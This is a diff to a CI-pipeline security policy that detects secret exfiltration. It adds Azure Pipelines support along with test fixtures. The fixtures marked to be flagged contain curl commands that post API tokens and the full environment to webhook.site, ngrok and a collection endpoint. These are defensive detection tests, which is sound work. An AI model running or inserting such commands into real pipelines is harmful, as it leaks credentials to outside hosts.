@@ -25,7 +25,7 @@ export const secretExfil = definePolicy({
     practices: ["P17", "P20"],
     cwe: [200, 522],
   },
-  platforms: ["circleci", "github-actions", "gitlab-ci"],
+  platforms: ["azure-pipelines", "circleci", "github-actions", "gitlab-ci"],
   examples: {
     flag: [
       {
@@ -66,6 +66,18 @@ export const secretExfil = definePolicy({
                 - run: «curl -d "key=$DEPLOY_KEY" https://webhook.site/0123»
         `,
       },
+      {
+        path: "azure-pipelines.yml",
+        text: `
+          steps:
+            - bash: |
+                «curl -d "key=$API_TOKEN" https://abc.webhook.site/x»
+                env | «curl --data-binary @- https://example.com/collect»
+              env:
+                API_TOKEN: $(ApiToken)
+            - script: «curl -d "$(ApiToken)" https://x.ngrok.io»
+        `,
+      },
     ],
     ok: [
       {
@@ -102,6 +114,15 @@ export const secretExfil = definePolicy({
               steps:
                 - run: 'curl --header "Authorization: $API_TOKEN" https://api.example.com/v1'
                 - run: curl https://webhook.site/0123
+        `,
+      },
+      {
+        path: "azure-pipelines.yml",
+        text: `
+          steps:
+            - script: |
+                curl -d "build=$(Build.BuildId)" https://abc.webhook.site/x
+                curl --header "Authorization: Bearer $(ApiToken)" https://example.com/deploy
         `,
       },
     ],
